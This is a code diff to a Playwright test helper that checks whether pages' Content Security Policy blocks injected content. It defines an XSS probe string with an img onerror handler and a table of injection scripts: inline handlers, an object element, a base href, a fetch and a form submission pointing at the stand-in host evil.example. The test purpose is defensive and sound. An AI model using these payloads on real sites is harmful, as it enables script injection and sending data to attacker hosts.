@@ -3,20 +3,28 @@ import type { BrowserContext } from "playwright-core"
 /** What a page that believed it would run: `ran` is a function of the browser's that no page of ours calls. */
 export const ILL_WORDS = '"><img src=x onerror=ran()>'
 
-/** What a hole in a page would let in, each with the directive that stops it. */
-export const HOLES: [directive: string, script: string][] = [
-  ["script-src-attr", `document.body.insertAdjacentHTML("beforeend", "<img src=/none onerror=ran()>")`],
-  ["script-src-elem", `document.body.append(Object.assign(document.createElement("script"), { textContent: "ran()" }))`],
-  [
-    "script-src-elem",
-    `document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/ran.js" }))`,
-  ],
-  ["object-src", `document.body.append(Object.assign(document.createElement("object"), { data: "/none" }))`],
-  ["base-uri", `document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }))`],
-  [
-    "form-action",
-    `{ const form = document.body.appendChild(document.createElement("form")); form.action = "https://evil.example/"; form.submit() }`,
-  ],
+/**
+ * What a hole in a page would let in as markup, or do with what it read, each with the directive that stops it. A script that another script makes is none:
+ * whoever makes it runs already.
+ */
+export const HOLES: { directive: string; script: string }[] = [
+  {
+    directive: "script-src-attr",
+    script: `document.body.insertAdjacentHTML("beforeend", "<img src=/none onerror=ran()>")`,
+  },
+  { directive: "connect-src", script: `void fetch("https://evil.example/").catch(() => undefined)` },
+  {
+    directive: "object-src",
+    script: `document.body.append(Object.assign(document.createElement("object"), { data: "/none" }))`,
+  },
+  {
+    directive: "base-uri",
+    script: `document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }))`,
+  },
+  {
+    directive: "form-action",
+    script: `{ const form = document.body.appendChild(document.createElement("form")); form.action = "https://evil.example/"; form.submit() }`,
+  },
 ]
 
 export interface Policed {
@@ -29,7 +37,7 @@ export interface Policed {
 /** Listens, on every page of a browser window, for words that were run and for what the pages' policies stopped. */
 export async function policed(context: BrowserContext): Promise<Policed> {
   const heard: Policed = { ran: [], stopped: [] }
-  await context.exposeFunction("ran", () => void heard.ran.push("ran"))
+  await context.exposeBinding("ran", ({ page }) => void heard.ran.push(page.url()))
   await context.exposeFunction("stopped", (what: string) => void heard.stopped.push(what))
   await context.addInitScript(
     `addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
